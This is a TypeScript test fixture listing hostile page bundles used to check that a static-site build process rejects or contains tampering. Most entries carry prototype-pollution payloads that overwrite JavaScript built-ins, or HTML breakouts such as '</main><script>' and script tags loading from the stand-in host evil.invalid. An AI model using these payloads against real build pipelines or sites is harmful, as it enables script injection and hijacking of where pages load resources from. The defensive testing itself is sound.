/** A build that tries to write what is not its own: the frame, the policy, or scripts of its own into a page. */
export interface Forgery {
  what: string;
  /** Runs when the bundle is loaded, with every built-in in its hands. */
  load?: string;
  /** The page's content, as an expression. */
  html?: string;
  /** The page's head, as an expression. */
  head?: string;
  css?: string;
  /** Replaces members of its page. */
  page?: string;
  /** The sentence that it is refused with; absent: it is shown, and is harmless to the byte outside of its slot. */
  refused?: RegExp;
}

const realm = (what: string, load: string, refused?: RegExp): Forgery => ({ what, load, ...(refused && { refused }) });
const EVIL = 'https://evil.invalid';

/** Every built-in in an attacker's hand: what the process says may be wrong, and nothing but its own content is made of it. */
const ofTheRealm: readonly Forgery[] = [
  realm(
    'puts an origin into the configuration',
    `Object.prototype.filesUrl = Object.prototype.apiBaseUrl = '${EVIL}';`,
  ),
  realm(
    'puts every optional value of a page on the prototype',
    `for (const [name, value] of Object.entries({ image: '${EVIL}/a.png', noIndex: true, canonical: '/x/', otherDevice: { path: '/x/', mobile: true },
      starter: 'alert(1)', preload: [{ url: '${EVIL}', integrity: '' }], answers: {}, jsonLd: [{}], breadcrumb: [] }))
      Object.defineProperty(Object.prototype, name, { value, writable: true, configurable: true, enumerable: true });`,
  ),
  realm('replaces the joining of lists', `Array.prototype.join = () => '<script src=${EVIL}></script>';`),
  realm(
    'replaces all that lists can do',
    `for (const name of ['map', 'flatMap', 'filter', 'find', 'forEach', 'reduce', 'push', 'slice', 'concat', 'at', 'includes', 'sort'])
      Object.defineProperty(Array.prototype, name, { value: () => ['<base href=${EVIL}>'] });`,
  ),
  realm('replaces how lists are gone through', `Array.prototype[Symbol.iterator] = function* () { yield '${EVIL}'; };`),
  realm(
    'replaces all that text can do',
    `for (const name of ['replace', 'replaceAll', 'split', 'slice', 'trim', 'startsWith', 'includes', 'concat', 'at', 'toString', 'valueOf'])
      Object.defineProperty(String.prototype, name, { value: () => '</main><script>' });`,
  ),
  realm('replaces JSON', 'JSON.stringify = () => \'{"html":"</main>"}\'; JSON.parse = () => ({ config: {} });'),
  realm(
    'replaces what objects are made and read by',
    `for (const name of ['entries', 'fromEntries', 'assign', 'keys', 'values', 'freeze', 'create', 'hasOwn', 'defineProperty', 'getPrototypeOf'])
      { const own = Object[name]; Object[name] = (...given) => { try { return own(...given); } finally { Object.prototype.html = '</main>'; } }; }`,
  ),
  realm(
    'says itself how it is written',
    "Object.prototype.toJSON = () => ({ html: '</main><base>', head: {} });",
    /Maximum call stack|answers with something else/,
  ),
  realm('says how its lists are written', "Array.prototype.toJSON = () => '</main>';", /answers with something else/),
  realm('says how its text is written', "String.prototype.toJSON = () => '</main>';"),
  realm('replaces promises', "Promise.prototype.then = function (done) { done({ html: '</main>', head: {} }); };"),
  realm(
    'replaces patterns',
    "RegExp.prototype.test = () => true; RegExp.prototype.exec = () => ['</main>']; RegExp.prototype[Symbol.replace] = () => '</main>';",
  ),
  realm(
    'replaces maps and sets',
    "for (const kind of [Map, Set, WeakMap, WeakSet]) for (const name of ['get', 'set', 'has', 'add']) kind.prototype[name] = () => '</main>';",
  ),
  realm(
    'replaces how functions are called',
    "Function.prototype.call = Function.prototype.apply = Function.prototype.bind = () => () => '</main>';",
  ),
  realm(
    'replaces reflection',
    "for (const name of Object.getOwnPropertyNames(Reflect)) Reflect[name] = () => '</main>';",
  ),
  realm(
    'replaces stacks of errors',
    "Error.captureStackTrace = (target) => { target.stack = '</main><script>'; }; Error.stackTraceLimit = Infinity;",
  ),
  realm('replaces the clock and the dice', 'Date.now = () => 0; Math.random = () => 0; performance.now = () => 0;'),
  realm(
    'replaces addresses and encodings',
    `globalThis.URL = class { origin = '${EVIL}'; href = '${EVIL}'; }; globalThis.encodeURIComponent = globalThis.decodeURIComponent = () => '"><base>'; globalThis.TextEncoder = class {};`,
  ),
  realm(
    'replaces symbols that others ask for',
    "Object.prototype[Symbol.toPrimitive] = () => '</main>'; Object.prototype[Symbol.toStringTag] = '</main>'; Object.prototype[Symbol.iterator] = function* () { yield '</main>'; };",
  ),
  realm(
    'puts traps under every object',
    "Object.setPrototypeOf(Object.prototype.__proto__ ?? {}, null); Object.defineProperty(Object.prototype, 'remote', { get: () => ({ name: 'host' }) });",
  ),
  realm(
    'answers for the host',
    "Object.defineProperty(Object.prototype, 'facts', { value: () => ({ contract: '9.9' }) });",
  ),
  realm(
    'changes its answers in a timer and in a microtask',
    "setTimeout(() => { Array.prototype.join = () => '<base>'; }, 0); queueMicrotask(() => { Object.prototype.filesUrl = 'https://evil.invalid'; });",
  ),
  realm(
    'writes to what it was given',
    "Object.defineProperty(Object.prototype, 'config', { set() { throw new Error('caught'); }, get: () => ({ origin: 'https://evil.invalid' }) });",
  ),
  {
    what: 'is a page of traps',
    page: "__proto__: new Proxy({}, { get: (_target, name) => (name === 'contract' ? '1.0' : undefined) }),",
  },
  {
    what: 'gives a head of traps',
    head: "new Proxy({ title: 'page', description: '' }, { get: (target, name) => (name in target ? target[name] : undefined) })",
  },
  {
    what: 'gives text that is an object',
    html: "{ toString: () => '</main>' }",
    refused: /answers with something else/,
  },
  {
    what: 'gives text that changes',
    load: 'let n = 0;',
    html: "'<p>' + n++ + '</p>'",
    refused: /renders differently each time/,
  },
];

const ofPages: readonly Forgery[] = [
  {
    what: 'leads to a page that it does not have',
    page: "leadsTo: ['../../host'],",
    refused: /is not the name of a page/,
  },
  { what: 'starts otherwise', page: "start: 'now',", refused: /start Invalid option/ },
  { what: 'is listed elsewhere', page: "listedBy: 'https://evil.invalid/api/x',", refused: /is no public call/ },
  { what: 'is for no contract', page: "contract: '1.0; x',", refused: /is not the version of a contract/ },
];

/** Forgeries that need a process. */
export const realmForgeries: readonly Forgery[] = [...ofTheRealm, ...ofPages];

/** The bundle of one page that tries it. */
export function forgedBundle({ load = '', html = "'<p>plain</p>'", head = '{}', page = '' }: Forgery): string {
  return `${load}
    module.exports = { page: {
      contract: '1.0', paths: () => [], render: () => (${html}), head: () => (${head}), ${page}
    } };`;
}
